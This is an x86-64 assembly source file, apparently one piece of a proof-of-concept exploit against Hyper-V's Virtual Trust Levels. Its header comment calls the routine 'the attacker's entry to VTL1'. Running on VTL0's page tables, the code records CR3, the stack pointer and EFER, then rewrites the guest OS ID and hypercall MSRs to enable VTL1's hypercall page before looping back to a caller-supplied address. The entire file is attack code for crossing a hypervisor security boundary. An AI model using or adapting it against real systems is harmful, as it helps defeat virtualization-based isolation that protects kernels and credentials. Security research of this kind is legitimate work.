/* SPDX-License-Identifier: GPL-2.0-only */
/* The attacker's entry to VTL1. It runs on VTL0's page tables and enables VTL1's hypercall page at the GPA of
 * VTL0's (overlay pages are per VTL). */
#include <linux/linkage.h>
#include <asm/nospec-branch.h>

#define MSR_EFER	0xc0000080
#define MSR_GUEST_OS_ID 0x40000000
#define MSR_HYPERCALL	0x40000001

	.text
	.globl	attack_entry
	.type	attack_entry, @function
attack_entry:
	leaq	attack_entry_captured(%rip), %rdi
	movq	%cr3, %rax
	movq	%rax, (%rdi)
	movq	%rsp, 8(%rdi)
	movl	$MSR_EFER, %ecx
	rdmsr
	movl	%eax, 16(%rdi)
	movl	%edx, 20(%rdi)
	movl	$MSR_GUEST_OS_ID, %ecx
	movl	$1, %eax
	movl	$0x81000000, %edx
	wrmsr
	movl	$MSR_HYPERCALL, %ecx
	movl	attack_entry_hypercall_msr(%rip), %eax
	movl	attack_entry_hypercall_msr+4(%rip), %edx
	wrmsr
1:	movl	$1, %ecx	/* fast return: RAX and RCX are not restored */
	movq	attack_entry_return(%rip), %rax
	ANNOTATE_RETPOLINE_SAFE
	call	*%rax
	jmp	1b
	.size	attack_entry, . - attack_entry

	.data
	.balign	8
	.globl	attack_entry_captured, attack_entry_hypercall_msr, attack_entry_return
attack_entry_captured:
	.quad	0, 0, 0
attack_entry_hypercall_msr:
	.quad	0
attack_entry_return:
	.quad	0

	.section .note.GNU-stack, "", @progbits
